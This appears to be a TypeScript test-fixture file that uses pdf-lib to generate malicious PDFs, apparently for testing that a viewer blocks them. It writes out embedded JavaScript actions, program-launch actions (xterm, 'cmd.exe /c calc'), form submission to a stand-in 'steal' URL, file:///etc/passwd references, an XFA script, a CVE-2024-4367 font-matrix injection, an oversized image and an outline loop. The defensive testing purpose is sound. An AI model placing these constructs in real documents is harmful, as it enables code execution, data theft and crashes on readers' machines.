import { PDFDocument, PDFHexString, PDFName, PDFString, type PDFDict, type PDFObject } from 'pdf-lib'
import { makePdf } from './pdf-files'

/** What a script in a PDF would do if it ran here: reach for the page that shows it. */
const SCRIPT =
  'app.alert("harm"); top.harmed = true; globalThis.harmed = true; this.submitForm("https://example.org/steal"); console.println(1)'

const scriptAction = { Type: 'Action', S: 'JavaScript', JS: PDFString.of(SCRIPT) }

/** A PDF that tries to run something in every way that the format has, when it opens, on every page, and in a form. */
export async function scriptedPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makePdf({ pages: 2 }))
  const { context, catalog } = document
  catalog.set(PDFName.of('OpenAction'), context.obj(scriptAction))
  catalog.set(PDFName.of('AA'), context.obj({ WC: scriptAction, DP: scriptAction }))
  const names = context.obj({ Names: [PDFString.of('startup'), context.obj(scriptAction)] } as never)
  catalog.set(PDFName.of('Names'), context.obj({ JavaScript: names } as never))
  for (const page of document.getPages())
    page.node.set(PDFName.of('AA'), context.obj({ O: scriptAction, C: scriptAction } as never))
  const form = document.getForm()
  const field = form.createTextField('name')
  field.setText('filled in')
  field.addToPage(document.getPage(0), { x: 72, y: 400, width: 200, height: 24 })
  const widget = field.acroField.getWidgets()[0]?.dict as PDFDict
  widget.set(PDFName.of('AA'), context.obj({ K: scriptAction, F: scriptAction, U: scriptAction, Fo: scriptAction } as never))
  widget.set(PDFName.of('A'), context.obj(scriptAction as never))
  return document.save()
}

/** A PDF whose links start a program, send a form, open other files, and whose page carries files. */
export async function reachingPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makePdf({ pages: 2 }))
  const { context } = document
  const actions: Record<string, unknown>[] = [
    { S: 'Launch', F: PDFString.of('/usr/bin/xterm') },
    { S: 'Launch', Win: { F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') } },
    { S: 'SubmitForm', F: { FS: PDFName.of('URL'), F: PDFString.of('https://example.org/steal') } },
    { S: 'GoToR', F: PDFString.of('file:///etc/passwd'), D: [0, 'Fit'] },
    { S: 'URI', URI: PDFString.of('javascript:top.harmed=true') },
    { S: 'URI', URI: PDFString.of('file:///etc/passwd') },
    { S: 'ImportData', F: PDFString.of('https://example.org/data.fdf') },
    { S: 'Named', N: PDFName.of('Print') },
  ]
  const annotations: PDFObject[] = actions.map((action, at) =>
    context.register(
      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 600 - at * 30, 300, 625 - at * 30], A: action } as never),
    ),
  )
  await document.attach(new TextEncoder().encode('<script>top.harmed = true</script>'), 'page.html', { mimeType: 'text/html' })
  document.getPage(0).node.set(PDFName.of('Annots'), context.obj(annotations as never))
  return document.save()
}

/** A form of the kind that brings its own language (XFA), with a script in it. */
export async function xfaPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makePdf({ pages: 1 }))
  const { context, catalog } = document
  const template = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><event activity="initialize"><script contentType="application/x-javascript">${SCRIPT}</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://example.org/beacon.png" onerror="top.harmed=true"/></body></exData></value></draw></subform></template></xdp:xdp>`
  const stream = context.register(context.stream(new TextEncoder().encode(template)))
  catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: stream } as never))
  return document.save()
}

/** A font whose matrix holds code instead of a number (CVE-2024-4367), on a page that uses it. */
export async function fontMatrixPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makePdf({ pages: 1 }))
  const { context } = document
  const code = PDFString.of('1\\); top.harmed = true; //')
  const font = context.register(
    context.obj({
      Type: 'Font',
      Subtype: 'Type1',
      BaseFont: 'Harm',
      FontMatrix: [0.001, 0, 0, 0.001, 0, code],
      FontDescriptor: { Type: 'FontDescriptor', FontName: 'Harm', Flags: 4, FontMatrix: [1, 2, 3, 4, 5, code] },
    } as never),
  )
  const page = document.getPage(0)
  page.node.setFontDictionary(PDFName.of('Harm'), font)
  const content = context.register(context.stream('BT /Harm 20 Tf 72 300 Td (harm) Tj ET'))
  page.node.addContentStream(content)
  return document.save()
}

/** A page with a picture of a few bytes that claims to be 30,000 pixels square, and an outline that leads back to itself. */
export async function swollenPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makePdf({ pages: 1 }))
  const { context, catalog } = document
  const picture = context.register(
    context.stream(new Uint8Array(64), {
      Type: 'XObject',
      Subtype: 'Image',
      Width: 30_000,
      Height: 30_000,
      ColorSpace: 'DeviceRGB',
      BitsPerComponent: 8,
    }),
  )
  const page = document.getPage(0)
  page.node.setXObject(PDFName.of('Big'), picture)
  page.node.addContentStream(context.register(context.stream('q 200 0 0 200 72 100 cm /Big Do Q')))
  const root = context.nextRef()
  const entry = context.nextRef()
  context.assign(root, context.obj({ Type: 'Outlines', First: entry, Last: entry, Count: 1 } as never))
  const title = PDFHexString.fromText('Round and round')
  context.assign(entry, context.obj({ Title: title, Parent: root, Next: entry, First: entry, Last: entry, Count: 1 } as never))
  catalog.set(PDFName.of('Outlines'), root)
  return document.save()
}
